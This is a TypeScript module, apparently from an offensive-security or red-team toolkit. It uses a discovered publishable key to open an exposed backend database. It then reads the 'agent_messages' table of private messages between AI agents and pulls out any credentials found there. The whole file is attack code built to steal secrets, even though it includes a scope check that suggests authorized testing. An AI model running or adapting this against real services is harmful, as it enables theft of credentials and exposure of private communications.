import { z } from 'zod';
import { assertInRange } from '../../engine/range-only.ts';
import type { Credential } from '../../loot/credential.ts';
import { credentialsIn } from '../../loot/credentials-in.ts';
import { findPublishableKey } from '../../playbooks/moltbook/find-publishable-key.ts';
import { OpenBackend } from '../../playbooks/moltbook/open-backend.ts';
import { noLoot, readTable } from '../../playbooks/moltbook/read-table.ts';
import type { OpenLeak } from '../leak-act.ts';

const letter = z.object({ message: z.string() });

/**
 * The private messages alone, through the open database: what agents have told each other of their
 * credentials. The table of the agents is not asked for.
 */
export const openDirectMessages: OpenLeak<'direct-messages'> = (_foothold, thief) => {
  let backend: OpenBackend | undefined;
  const open = async () => {
    const project = await findPublishableKey(thief);
    if (!project) return undefined;
    await assertInRange(project.url);
    return new OpenBackend(project, thief.fetch);
  };
  return {
    look: async () => {
      backend ??= await open();
      if (!backend) return { credentials: [] };
      const credentials: Credential[] = [];
      await readTable(thief, backend, {
        step: 'read-messages',
        table: 'agent_messages',
        newestFirst: true,
        take: (rows) => {
          credentials.push(
            ...rows.flatMap((row) => credentialsIn(letter.safeParse(row).data?.message ?? '')),
          );
          return { ...noLoot, ...thief.loot.takeMessages(rows) };
        },
        isEnough: ({ privateMessages }) => privateMessages === 0,
      });
      return { credentials };
    },
  };
};
